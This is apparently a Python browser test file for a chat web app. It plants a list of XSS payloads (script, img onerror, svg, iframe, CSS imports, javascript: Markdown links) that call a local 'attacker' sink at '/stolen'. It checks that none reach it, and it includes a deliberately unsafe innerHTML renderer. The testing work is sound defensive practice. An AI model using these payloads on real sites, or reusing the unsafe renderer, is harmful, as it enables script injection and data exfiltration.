"""Script in everything that can be written: a server that it would report to is never asked for anything."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Route

from tests.browser.chat_page import ChatPage
from tests.support.server import Server

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]

PAYLOADS = [
    "<script>fetch('{sink}')</script>",
    "<script src='{sink}'></script>",
    "<img src='{sink}'>",
    "<img src=x onerror=\"fetch('{sink}')\">",
    "<svg onload=\"fetch('{sink}')\"></svg>",
    "<svg><image href='{sink}' /></svg>",
    "<iframe src='{sink}'></iframe>",
    "<iframe srcdoc=\"<script>fetch('{sink}')</script>\"></iframe>",
    "<object data='{sink}'></object><embed src='{sink}'>",
    "<video src='{sink}' poster='{sink}'></video><audio src='{sink}'></audio>",
    "<link rel=stylesheet href='{sink}'><link rel=prefetch href='{sink}'>",
    "<style>@import '{sink}'; * {{ background: url('{sink}') }}</style>",
    "<p style=\"background: url('{sink}')\">x</p>",
    "<meta http-equiv=refresh content='0; url={sink}'>",
    "<base href='{sink}'>",
    "<form action='{sink}'><input name=a autofocus onfocus='this.form.submit()'></form>",
    "<details open ontoggle=\"fetch('{sink}')\">x</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={sink}&gt;'>",
    "![x]({sink})",
    "![x][1]\n\n[1]: {sink}",
    "[x](javascript:fetch('{sink}'))",
    "[![x]({sink})](javascript:fetch('{sink}'))",
    "```html\n<img src={sink}>\n```",
    "`<img src={sink}>`",
    "| a |\n| - |\n| <img src={sink}> |",
]
NAIVE = """
export const blocksOf = (text) => [{ raw: text }];
export function elementsOf(blocks) {
  const made = document.createElement("template");
  made.innerHTML = blocks.map(({ raw }) => raw).join("");
  return document.importNode(made.content, true);
}
export const plainText = (text) => elementsOf([{ raw: text }]);
export const elementsOfText = plainText;
export const elementsOfTexts = (texts) => texts.map(plainText);
"""
"""A page's Markdown without its care: text becomes elements as it stands."""


class Sink:
    """A server of the attacker's on this machine, which counts what reaches it."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_: object) -> None: ...

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/stolen"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        """Ends it."""
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def sink() -> Iterator[Sink]:
    sink = Sink()
    yield sink
    sink.close()


@pytest.fixture(scope="module")
def parrot(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server whose voice repeats what it is told."""
    server = Server(tmp_path_factory.mktemp("parrot"), ("tests.security.parrot",))
    server.start()
    yield server
    server.stop()


def plant(page: ChatPage, sink: Sink) -> None:
    """Lets visitor and voice say every payload, looks at the answers while they are new, and again after a reload."""
    for number, payload in enumerate(PAYLOADS, 1):
        page.say(payload.format(sink=sink.url))
        page.expect_answers(number)
    page.tab.reload()
    page.expect_live()
    page.expect_answers(len(PAYLOADS))
    page.tab.get_by_role("button", name="Sessions").click()
    page.tab.wait_for_timeout(300)  # what should not come has no sign that it did not


def test_nothing_that_is_said_reaches_the_attackers_server(chromium: Browser, parrot: Server, sink: Sink) -> None:
    context = chromium.new_context()
    page = ChatPage(context.new_page(), parrot.address).open()
    plant(page, sink)
    export = page.tab.request.get(f"{parrot.address}/api/session/{page.user_id()}/export?format=html").text()
    tab = context.new_page()
    tab.route("**/exported", lambda route: route.fulfill(body=export, content_type="text/html"))
    tab.goto(f"{parrot.address}/exported")
    tab.wait_for_timeout(300)
    context.close()
    assert sink.asked == []


def test_a_page_without_care_and_policy_would_reach_it(chromium: Browser, parrot: Server, sink: Sink) -> None:
    context = chromium.new_context(bypass_csp=True)
    context.route("**/js/markdown/markdown.*", careless)
    page = ChatPage(context.new_page(), parrot.address).open()
    for number, payload in enumerate(PAYLOADS[2:6], 1):
        page.say(payload.format(sink=sink.url))
        page.expect_answers(number)
    page.tab.wait_for_timeout(300)
    context.close()
    assert sink.asked


def careless(route: Route) -> None:
    route.fulfill(body=NAIVE, content_type="text/javascript")
